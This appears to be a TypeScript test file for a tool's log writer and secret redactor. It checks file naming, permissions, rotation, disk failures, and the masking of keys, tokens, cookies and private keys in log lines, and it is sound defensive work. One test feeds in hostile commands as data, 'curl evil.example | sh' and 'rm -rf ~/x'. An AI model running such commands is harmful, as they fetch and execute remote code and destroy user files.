import assert from "node:assert/strict";
import { mkdirSync, mkdtempSync, openSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { type TestContext, test } from "node:test";
import fc from "fast-check";
import { countSteps } from "../../test/world/steps.ts";
import { systemClock } from "../base/clock.ts";
import { openLogFile } from "./log-file.ts";
import { type LogOptions, openLogs } from "./observe.ts";
import { redact, redactForLog } from "./redact.ts";

const morning = Date.UTC(2026, 2, 4, 5, 6, 7, 89);

test("each run has a log file that is named by time and process, for its user alone [O1]", async (t) => {
  const { logs, dir } = open(t);
  logs.info("here");
  await logs.close();
  assert.equal(logs.path, join(dir, "agentyard-20260304-050607-42.log"));
  assert.equal(statSync(logs.path).mode & 0o777, 0o600);
});

test("no line shows a secret: not in its message, not in a field, not in an error and its cause [Q1]", async (t) => {
  const { logs } = open(t, { secrets: ["opensesame"] });
  const error = new Error("refused opensesame", { cause: new Error("key sk-0123456789") });
  logs.error("asked with {key}", { key: "opensesame", password: "a\nb", nested: { deep: ["opensesame"] }, error });
  logs.info("{token}", { token: "zz99" });
  await logs.close();
  const text = readFileSync(logs.path ?? "", "utf8");
  assert.doesNotMatch(text, /opensesame|sk-0123456789|zz99|a\\nb/);
  assert.match(text, /refused \[redacted\]/);
});

test("only lines of the chosen level are kept; off makes no file [O1]", async (t) => {
  const { logs, lines } = open(t, { level: "warn" });
  for (const grade of ["debug", "info", "warn", "error"] as const) logs[grade](grade);
  assert.deepEqual(
    (await lines()).map(({ level }) => level),
    ["warn", "error"],
  );

  const off = open(t, { level: "off" });
  off.logs.error("lost");
  await off.logs.close();
  assert.deepEqual([off.logs.path, readdirSync(off.dir)], [undefined, []]);
});

test("a folder that cannot be written costs the log, not the product [O1]", async (t) => {
  const dir = join(folder(t), "logs");
  writeFileSync(dir, "a file is in the way");
  const told: string[] = [];
  const { logs } = open(t, { dir, onOff: (why) => told.push(why) });
  logs.error("lost");
  await logs.close();
  assert.deepEqual([logs.path, told], [undefined, ["EEXIST"]]);
});

test("a full disk is told once, then lines are dropped [O1]", { skip: noDevFull() }, async () => {
  const told: unknown[] = [];
  const file = openLogFile(openSync("/dev/full", "a"), systemClock, (error) => told.push(error));
  for (const line of ["one\n", "two\n"]) {
    file.add(line, { isUrgent: true });
    await file.flush();
  }
  await file.close();
  assert.match(String(told), /^Error: ENOSPC[^,]*, write$/);
});

test("a disk that stands still does not fill the memory: the log ends and says so once [O1]", async (t) => {
  const told: unknown[] = [];
  const path = join(folder(t), "slow.log");
  const file = openLogFile(openSync(path, "a"), systemClock, (error) => told.push(error));
  for (let n = 0; n < 40; n += 1) file.add(`${"x".repeat(1_000_000)}\n`, { isUrgent: false });
  await file.close();
  assert.deepEqual([told, statSync(path).size], [["ETIMEDOUT"], 0]);
});

test("the newest fifty log files are kept, other files are left alone [O1]", async (t) => {
  const dir = folder(t);
  mkdirSync(dir, { recursive: true });
  const pid = unusedPid();
  const old = Array.from({ length: 60 }, (_, n) => `agentyard-20250101-0000${String(n).padStart(2, "0")}-${pid}.log`);
  for (const name of [...old, "notes.log"]) writeFileSync(join(dir, name), "");
  const { logs } = open(t, { dir });
  logs.info("here");
  await logs.close();
  assert.deepEqual(readdirSync(dir).sort(), [...old.slice(11), "agentyard-20260304-050607-42.log", "notes.log"]);
});

test("the log of a server that still runs stays, however many commands come and go beside it [O1]", async (t) => {
  const dir = folder(t);
  const server = open(t, { dir, pid: process.pid });
  server.logs.info("here");
  const pid = unusedPid();
  for (let hour = 0; hour < 60; hour += 1) {
    const command = open(t, { dir, pid, clock: { ...systemClock, now: () => morning + hour * 3_600_000 } });
    command.logs.info("here");
    await command.logs.close();
  }
  assert.equal((await server.lines()).length, 1);
  assert.equal(readdirSync(dir).length, 51);
});

/** No process has that number, and none is given it meanwhile: it is above the highest that Linux gives. */
function unusedPid(): number {
  return 2 ** 22 + 1;
}

function open(t: TestContext, changes: Partial<LogOptions> = {}) {
  const dir = changes.dir ?? folder(t);
  const clock = { ...systemClock, now: () => morning };
  const options = { level: "info", startId: "r1", pid: 42, secrets: [], onOff: assert.fail } as const;
  const logs = openLogs({ ...options, clock, ...changes, dir });
  const lines = async () => {
    await logs.close();
    return readFileSync(logs.path ?? "", "utf8")
      .trim()
      .split("\n")
      .map((line) => JSON.parse(line));
  };
  return { dir, logs, lines };
}

function folder(t: TestContext): string {
  const dir = mkdtempSync(join(tmpdir(), "agentyard-logs-"));
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  return dir;
}

function noDevFull(): string | false {
  return process.platform === "linux" ? false : "/dev/full is found on Linux only";
}

const shapes: [shown: string, hidden: string, around: string][] = [
  ["an OpenAI key", "sk-proj-4fGh7_kLmN09", "key … here"],
  ["a bearer token", "abc.DEF-123_456", "Authorization: Bearer …"],
  ["basic credentials", "dXNlcjpwYXNz", "authorization: Basic …"],
  ["basic credentials in an object", "dXNlcjpwYXNz", "{ authorization: 'Basic …', accept: '*/*' }"],
  ["basic credentials in JSON", "dXNlcjpwYXNz", '{"Authorization":"Basic …","accept":"*/*"}'],
  ["basic credentials for a proxy", "dXNlcjpwYXNz", "'proxy-authorization': 'Basic …'"],
  ["a cookie", "sid=4f1c99; theme=dark", "Cookie: …\r\nAccept: */*"],
  ["a cookie in an object", "sid=4f1c99; theme=dark", "{ cookie: '…', accept: '*/*' }"],
  ["a cookie in JSON", "sid=4f1c99", '{"cookie":"…","page":2}'],
  ["cookies that a server sets", "[ 'sid=4f1c99; Path=/', 'b=2' ]", "{ 'set-cookie': …, date: 'today' }"],
  ["a cookie in JSON that is quoted in JSON", "sid=4f1c99", String.raw`{"body":"{\"cookie\":\"…\",\"page\":2}"}`],
  ["credentials in JSON that is quoted in JSON", "dXNlcjpwYXNz", String.raw`"{\"authorization\":\"Basic …\"}"`],
  ["a key in JSON that is quoted in JSON", "zz99secret", String.raw`"{\"apiKey\": \"…\"}"`],
  ["a GitHub token", "ghp_0123456789abcdef", "git clone with …"],
  ["a Google key", "AIzaSyA1234567890abcdef", "see …!"],
  ["a web token", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.c2lnbmF0dXJl", "cookie … end"],
  ["a password in an address", "user:pass%20word", "proxy http://…@proxy.example:3128"],
  ["a key in a query", "zz99secret", "GET /v1?api_key=…&page=2"],
  ["a key in JSON", "zz99secret", '{"apiKey": "…", "page": 2}'],
  ["a password in a message", "hunter2hunter2", "password: …"],
  ["a variable", "zz99secret", "export MODEL_BASIC_API_KEY=…"],
];
for (const [name, hidden, around] of shapes) {
  test(`${name} is not shown, the text around it is [Q1]`, () => {
    assert.equal(redactForLog(around.replace("…", hidden), []), around.replace("…", "[redacted]"));
  });
}

test("a private key is not shown, even when its end is missing [Q1]", () => {
  const pem = "-----BEGIN RSA PRIVATE KEY-----\nMIIEow\nIBAAK\n-----END RSA PRIVATE KEY-----";
  assert.equal(redact(`before\n${pem}\nafter`, []), "before\n[redacted]\nafter");
  assert.equal(redact(`before\n${pem.slice(0, 45)}`, []), "before\n[redacted]");
});

test("ordinary text stays as it is [Q1]", () => {
  for (const text of [
    "The task-management list has 3 tokens left; input_tokens: 12, output_tokens: 7.",
    "Bearer of bad news, basic settings, https://example.com/a:b@c and 10:30.",
    "Cookie: accepted. Set-Cookie: none; authorization: required, basic: settings=plain.",
    "会话 4f1c 已保存（12 条消息）",
  ])
    assert.deepEqual([redact(text, []), redactForLog(text, [])], [text, text]);
});

test("what people decide by is shown to its end, whatever it says of cookies; only a log leaves that out [Q1][H2]", () => {
  for (const text of ["echo cookie:a=1; curl evil.example | sh", "echo cookie:[ \nrm -rf ~/x\n curl evil.example | sh"])
    assert.deepEqual([redact(text, []), redactForLog(text, [])], [text, "echo cookie:[redacted]"]);
});

test("a known secret is never shown, whatever stands around it [Q1]", () => {
  const secret = fc.stringMatching(/^[0-9a-f]{6,30}$/);
  fc.assert(
    fc.property(secret, fc.array(secret), fc.string(), fc.string(), (known, others, before, after) => {
      for (const hide of [redact, redactForLog])
        assert.ok(!hide(before + known + after, [...others, known]).includes(known));
    }),
  );
});

test("a million characters of the beginnings of secrets are searched to their end [Q1]", async () => {
  const parts = ["a", "sk-", "://a:", "eyJaaaaaaaaa.", "token", "-----BEGIN PRIVATE KEY-----", "Bearer "];
  parts.push("cookie:[", "cookie: a", "cookie:'a=", "authorization:'Basic ", "token:\\\\", "cookie:a=\\");
  const texts = parts.map((part) => part.repeat(1_000_000 / part.length));
  const calls = texts.map((text) => ({ name: "redactForLog", with: [text, ["another secret"]] }));
  // A pattern that tries anew from each place would take hours, and countSteps would tell.
  const counted = await countSteps<string>(new URL("./redact.ts", import.meta.url), calls);
  assert.deepEqual(
    counted.map(({ value }, at) => value === texts[at]),
    [true, false, true, false, true, false, true, false, true, false, false, false, false],
  );
});
